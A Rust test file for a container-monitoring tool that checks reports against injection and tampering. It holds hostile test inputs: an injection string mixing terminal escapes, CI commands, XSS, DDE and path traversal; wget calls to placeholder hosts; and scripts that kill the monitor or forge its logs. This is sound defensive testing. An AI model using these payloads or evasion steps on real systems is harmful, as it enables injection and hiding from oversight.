//! A container that wants to be missed, to make its report act on who reads it, or to end
//! what watches it.

use crate::harness::{Container, Dir, program, run, until};
use buildwarden::report::model::{Report, Verdict};
use nix::unistd::Pid;
use pulldown_cmark::{Event, Tag};
use serde_json::Value;
use std::{collections::BTreeSet, fs};

/// What a terminal, a log of lines, a CI system, a page, a spreadsheet and a path would obey.
const INJECTION: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\r\n::error::owned\n\
    {\"key\":\"dev.buildwarden.finished\"}\n</script><script>owned()</script>\
    <img src=x onerror=owned()>[owned](javascript:owned()) \u{202e} ../../../../tmp/owned \
    =cmd|' /C owned'!A0 `owned` $(owned) ]]><!--";

#[test]
fn root_nothing_of_a_container_acts_on_who_reads_about_it() {
    let dir = Dir::new();
    let formats = "markdown html sarif junit gitlab-codequality github ocsf text in-toto";
    let formats: Vec<_> = formats.split(' ').filter(|name| can_be_written(name)).collect();
    dir.configure(&format!("[report]\nformats = {formats:?}"));
    // The name of a file in the container, its arguments, and an environment are hostile too.
    let script = "mkdir -p \"/tmp/$BAD\" 2>/dev/null
        name=\"/tmp/$(printf 'a\\033[2J\\n::error::owned\\n<script>owned()')\"
        mkdir \"$name\"; cp /bin/busybox \"$name/wget\"; \"$name/wget\" -U \"$BAD\" \"http://198.51.100.50/$BAD\"; :";
    let script = format!("BAD=\"$1\"; {script}");
    let mut container =
        Container::new(&dir, "injected").args(&["/bin/sh", "-c", &script, "sh", INJECTION]);
    for key in [
        "dev.buildwarden.job",
        "io.kubernetes.cri.container-name",
        "org.opencontainers.image.ref.name",
        INJECTION,
    ] {
        container = container.annotation(key, INJECTION);
    }
    container.run().expect_code(0);

    let report = dir.report("injected");
    assert!(!report.findings.is_empty(), "{report:?}");
    assert_eq!(report.completeness.reasons, [""; 0]);
    // Every line is a line of ours.
    let directory = dir.state().join("containers/injected");
    for (name, key) in [("annotations.jsonl", "key"), ("execs.jsonl", "t")] {
        for line in fs::read_to_string(directory.join(name)).unwrap().lines() {
            let line: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
            assert!(line.is_object(), "{name}: {key}: {line}");
        }
    }
    let log = fs::read_to_string(directory.join("annotations.jsonl")).unwrap();
    let ends = log.lines().filter(|line| {
        let line: Value = serde_json::from_str(line).unwrap();
        line["key"] == "dev.buildwarden.finished"
    });
    assert_eq!(ends.count(), 1, "{log}");
    // Whatever it is rendered to.
    let mut seen = 0;
    for entry in fs::read_dir(&directory).unwrap().flatten() {
        let name = entry.file_name().into_string().unwrap();
        check_text(&name, &fs::read_to_string(entry.path()).unwrap());
        seen += 1;
    }
    assert!(seen >= 3 + formats.len(), "{formats:?}: {seen}");
    for verb in
        [&["report", "injected"][..], &["watch", "injected"], &["list"], &["verify", "injected"]]
    {
        check_text(&verb.join(" "), &run(&mut dir.buildwarden(verb)).expect_code(0).stdout());
    }
    // Nothing became a path.
    assert_eq!(dir.runs(), ["injected"]);
    assert!(!std::path::Path::new("/tmp/owned").exists());
    dir.expect_nothing_live();
}

/// Whether a format can be configured.
fn can_be_written(name: &str) -> bool {
    use buildwarden::report::format::Format;
    Format::from_name(name).is_some_and(|format| format.file_name().is_some())
}

/// Nothing in a text is a command to a terminal or to a CI system, or markup that runs.
#[track_caller]
fn check_text(name: &str, text: &str) {
    // What turns letters around is raw only in the file that may have millions of lines.
    let bulk = name == "execs.jsonl";
    let raw = text.chars().find(|c| (c.is_control() && *c != '\n') || (*c == '\u{202e}' && !bulk));
    assert_eq!(raw, None, "{name}: {text}");
    for line in text.lines() {
        let command = line.trim_start().strip_prefix("::");
        assert!(!command.is_some_and(|rest| rest.starts_with("error::owned")), "{name}: {line}");
    }
    let markup = match name.rsplit_once('.') {
        Some((_, "html" | "xml")) => text.to_owned(),
        // What stands in code is no markup.
        Some((_, "md")) => markup_of(text),
        _ => String::new(),
    };
    for bad in ["<script", "<img src=x", "]]><!--", "href=\"javascript:"] {
        assert!(!markup.contains(bad), "{name}: {bad} in {markup}");
    }
}

/// What of Markdown is passed on as HTML, or leads somewhere.
fn markup_of(markdown: &str) -> String {
    let mut markup = String::new();
    for event in pulldown_cmark::Parser::new(markdown) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => markup += &html,
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                markup += &format!("href=\"{dest_url}\"");
            }
            _ => {}
        }
    }
    markup
}

/// Addresses of all findings.
fn addresses(report: &Report) -> BTreeSet<String> {
    let all = report.findings.iter().flat_map(|finding| &finding.addresses);
    all.map(|address| address.address.clone()).collect()
}

#[test]
fn root_no_way_to_execute_is_missed() {
    let dir = Dir::new();
    let wget = "/bin/wget http://198.51.100.60/x";
    // How it is done, and how many findings there are to be at least.
    let cases = [
        (format!("attack race 200 {wget}"), 1),
        (format!("attack thread {wget}"), 1),
        (format!("attack nest 24 {wget}"), 1),
        ("attack disguise /bin/curl http://198.51.100.60/x".to_owned(), 1),
    ];
    for (number, (script, findings)) in cases.iter().enumerate() {
        let id = format!("missed-{number}");
        let container = Container::new(&dir, &id)
            .with(&program("attack"), "/bin/attack")
            .with(&program("nothing"), "/bin/curl");
        let done = container.script(&format!("{script}; :")).run();
        let report = dir.report(&id);
        assert!(report.findings.len() >= *findings, "{script}: {done}\n{report:?}");
        // Each that was executed is one.
        let mut executed = dir.execs(&id);
        executed.retain(|exec| exec.argv.len() == 2 && exec.has("http://198.51.100.60/x"));
        assert_eq!(executed.len(), report.findings.len());
        assert_eq!(addresses(&report).into_iter().collect::<Vec<_>>(), ["198.51.100.60"]);
        assert_eq!(report.completeness.reasons, [""; 0], "{script}");
        assert!(report.completeness.is_complete(), "{script}: {:?}", report.completeness);
        for finding in &report.findings {
            assert!(finding.outcome.is_some(), "{script}: its end is missing: {finding:?}");
        }
    }
}

/// Other tools can push out a tool, and then it is said.
#[test]
fn root_a_storm_of_listed_tools_is_never_clean() {
    let dir = Dir::with_bpffs();
    dir.configure("[ring]\nsize = \"64KiB\"");
    let storm = "echo >/sync/ready; read _ </sync/go
        attack race 600 /bin/wget x; wget http://198.51.100.61/x
        echo >/sync/ready; read _ </sync/go";
    let container =
        Container::new(&dir, "tools").with(&program("attack"), "/bin/attack").script(storm);
    let mut running = container.start();
    running.ready();
    confined(dir.collector("tools"));
    dir.while_stopped("tools", || {
        running.go();
        running.ready();
    });
    running.go();
    running.finish().expect_code(0);
    let report = dir.report("tools");
    let found = &report.completeness;
    assert!(found.lost > 0 && found.execs + found.lost == found.last_sequence, "{found:?}");
    assert_ne!(report.verdict, Verdict::Clean);
    assert!(!found.is_complete());
}

/// With a collector that runs, the same storm loses nothing that matters.
#[test]
fn root_a_fork_bomb_hides_nothing_from_a_collector_that_runs() {
    let dir = Dir::with_bpffs();
    let bomb = "for i in 1 2 3 4; do attack race 1000 /bin/true x & done
        wget http://198.51.100.62/x; wait; :";
    let container = Container::new(&dir, "bomb").with(&program("attack"), "/bin/attack");
    container.script(bomb).run().expect_code(0);
    let report = dir.report("bomb");
    assert_eq!(addresses(&report).into_iter().collect::<Vec<_>>(), ["198.51.100.62"]);
    let found = &report.completeness;
    assert_eq!(found.execs + found.lost, found.last_sequence);
    assert!(found.last_sequence > 2000, "{found:?}");
}

/// What a privileged container does to us, and what must come of it.
struct Attack {
    name: &'static str,
    /// What it does before it calls out.
    script: &'static str,
    /// Whether calling out is found all the same, and the report whole.
    resisted: bool,
    /// Words of a reason why it is not.
    reason: &'static str,
}

const ATTACKS: [Attack; 6] = [
    Attack { name: "unpins", script: "rm -r /bw/bpf/buildwarden", resisted: true, reason: "" },
    Attack {
        name: "kills",
        script: "kill -9 $(cat /bw/run/kills/collector.pid)",
        resisted: true,
        reason: "",
    },
    Attack { name: "forgets", script: "rm -r /bw/run/forgets", resisted: true, reason: "" },
    Attack {
        name: "unloads",
        script: "kill -9 $(cat /bw/run/unloads/collector.pid); rm -r /bw/bpf/buildwarden",
        resisted: false,
        reason: "recording was lost",
    },
    Attack {
        name: "unhooks",
        script: "attack unhook /bw/bpf/buildwarden/* /bin/true",
        resisted: false,
        reason: "tampered",
    },
    Attack {
        name: "misleads",
        script: "f=/bw/run/misleads/attachment.json; kill -9 $(cat /bw/run/misleads/collector.pid)
            sed -i 's|\"directory\":\"misleads\"|\"directory\":\"../../elsewhere\"|' $f",
        resisted: true,
        reason: "",
    },
];

#[test]
fn root_what_a_privileged_container_does_is_resisted_or_told() {
    for attack in ATTACKS {
        check_attack(&attack);
    }
}

/// Waits until a collector has opened what it needs.
#[track_caller]
fn confined(collector: Pid) {
    until("a collector that is confined", || {
        let status = fs::read_to_string(format!("/proc/{collector}/status")).ok()?;
        status.contains("\nSeccomp:\t2\n").then_some(())
    });
}

#[track_caller]
fn check_attack(Attack { name, script, resisted, reason }: &Attack) {
    let dir = Dir::with_bpffs();
    // Its file system is there before the container's mounts are made.
    run(&mut dir.buildwarden(["run", "--", "true"])).expect_code(0);
    fs::create_dir(dir.path("elsewhere")).unwrap();
    let script = format!(
        "echo >/sync/ready; read _ </sync/go; {script}
         wget http://198.51.100.63/x; :"
    );
    let container = Container::new(&dir, name)
        .with(&program("attack"), "/bin/attack")
        .privileged()
        .script(&script);
    let mut running = container.start();
    running.ready();
    confined(dir.collector(name));
    running.go();
    running.finish().expect_code(0);
    run(&mut dir.buildwarden(["gc"]));

    let report = dir.report(name);
    let reasons = &report.completeness.reasons;
    if *resisted {
        assert_eq!(report.findings.len(), 1, "{name}: {reasons:?}");
        assert_eq!(*reasons, [""; 0], "{name}");
    } else {
        assert_ne!(report.verdict, Verdict::Clean, "{name}: {report:?}");
        assert!(reasons.iter().any(|told| told.contains(reason)), "{name}: {reasons:?}");
    }
    assert_eq!(fs::read_dir(dir.path("elsewhere")).unwrap().count(), 0, "{name}");
}

/// What is done to a run's files while it runs is never called clean, `verify` says so, and
/// nothing is written where a link leads.
#[test]
fn root_what_is_done_to_the_files_of_a_run_shows() {
    let emptied = ": >$f/execs.jsonl";
    let forgotten = "sed -i '/finding/d' $f/annotations.jsonl";
    let linked = "rm $f/execs.jsonl; ln -s /bw/state/elsewhere $f/execs.jsonl";
    let forged = "echo '{\"verdict\":\"clean\"}' >$f/report.json";
    for (name, script) in
        [("emptied", emptied), ("forgotten", forgotten), ("linked", linked), ("forged", forged)]
    {
        let dir = Dir::with_bpffs();
        run(&mut dir.buildwarden(["run", "--", "true"])).expect_code(0);
        let elsewhere = dir.state().join("elsewhere");
        fs::write(&elsewhere, "untouched").unwrap();
        let script = format!(
            "f=/bw/state/containers/{name}; wget http://198.51.100.64/x
             echo >/sync/ready; read _ </sync/go; {script}; :"
        );
        let container = Container::new(&dir, name).privileged().script(&script);
        let mut running = container.start();
        running.ready();
        let log = dir.state().join("containers").join(name).join("annotations.jsonl");
        until("the finding", || {
            fs::read_to_string(&log).ok()?.contains("198.51.100.64").then_some(())
        });
        running.go();
        running.finish().expect_code(0);
        run(&mut dir.buildwarden(["gc"]));
        dir.expect_nothing_live();

        let gate = run(&mut dir.buildwarden(["report", name, "--fail-on", "medium"]));
        assert_ne!(gate.code, 0, "{name}: {gate}");
        // What is missing at the end of a log that was replaced, only the report can say.
        let told = run(&mut dir.buildwarden(["report", name])).stdout();
        let told = told.contains("findings are missing in the annotation log");
        let verified = run(&mut dir.buildwarden(["verify", name]));
        assert!(verified.code != 0 || told, "{name}: {verified}");
        assert_eq!(fs::read_to_string(&elsewhere).unwrap(), "untouched", "{name}");
    }
}
